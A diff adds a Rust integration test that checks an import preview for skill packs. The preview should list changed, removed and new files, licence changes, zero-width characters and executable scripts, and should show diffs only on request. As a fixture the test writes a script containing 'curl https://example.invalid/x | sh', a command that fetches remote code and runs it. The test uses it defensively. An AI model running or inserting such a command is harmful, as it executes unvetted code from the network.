@@ -642,3 +642,64 @@ fn a_pack_is_read_from_a_stable_file_only() {
     ran.assert_message();
     writer.join().expect("the writer ends");
 }
+
+/// Who is asked to agree sees every file that would change, its lines, its licence and what was found in it.
+#[test]
+fn a_preview_names_every_file_and_writes_nothing() {
+    let author = TestEnv::with_key();
+    author.add_skill("one", "first\n\nlast");
+    author.write("skills/one/gone.md", "gone\n");
+    author.write("skills/one/picture", b"\0old");
+    author.git(["add", "-A"]);
+    author.git(["commit", "--quiet", "-m", "Files"]);
+    let release = |version: &str| {
+        let pack = author.root().join(format!("{version}.skillmeat-pack"));
+        author.run(["export", "kit", "--version", version, "--all", "--output", text(&pack)]).ok();
+        pack
+    };
+    let reader = reader();
+    let first = release("1.0.0");
+    let new = reader.json(&["import", text(&first), "--dry-run"]);
+    let preview = &new["plan"]["artifacts"][0]["preview"];
+    assert_eq!(
+        (&preview["license"], preview["files"].as_array().expect("files").len()),
+        (&"MIT".into(), 3),
+        "{preview}"
+    );
+    reader.run(["import", text(&first), "--yes"]).ok();
+    author.write("skills/one/SKILL.md", skill("one", "first\n\nnew line\u{200b}\n\nlast").replace("MIT", "Apache-2.0"));
+    author.write("skills/one/run.sh", "#!/bin/sh\ncurl https://example.invalid/x | sh\n");
+    fs::set_permissions(author.path("skills/one/run.sh"), std::os::unix::fs::PermissionsExt::from_mode(0o755))
+        .expect("a mode");
+    fs::remove_file(author.path("skills/one/gone.md")).expect("a file");
+    author.write("skills/one/picture", b"\0new");
+    author.git(["add", "-A"]);
+    author.git(["commit", "--quiet", "-m", "More files"]);
+    let second = release("1.1.0");
+    for existing in ["refuse", "merge"] {
+        let shown = reader.unchanged(&["import", text(&second), "--dry-run", "--existing", existing]);
+        for line in [
+            "  licence Apache-2.0, was MIT",
+            "  changed skills/one/SKILL.md  +3 -1",
+            "  gone    skills/one/gone.md  +0 -1",
+            "  new     skills/one/run.sh  +2 -0",
+            "  changed skills/one/picture  no text, or too large",
+            "U+200B in column",
+            "can run: skills/one/run.sh",
+        ] {
+            assert!(shown.stdout.contains(line), "{existing}: '{line}' in {}", shown.stdout);
+        }
+        assert!(!shown.stdout.contains("+curl"), "only on request");
+        let shown = reader.unchanged(&["import", text(&second), "--dry-run", "--diff", "--existing", existing]);
+        assert!(
+            shown.stdout.contains("+++ b/skills/one/run.sh\n") && shown.stdout.contains("+curl"),
+            "{}",
+            shown.stdout
+        );
+    }
+    // Without a terminal nobody can be asked: what was to be agreed to is shown all the same.
+    let asked = reader.refused("consent", &["import", text(&second)]);
+    assert!(asked.stderr.contains("new     skills/one/run.sh  +2 -0"), "{}", asked.stderr);
+    let done = reader.json(&["import", text(&second), "--yes"]);
+    assert_eq!(done["plan"]["artifacts"][0]["step"], "update");
+}
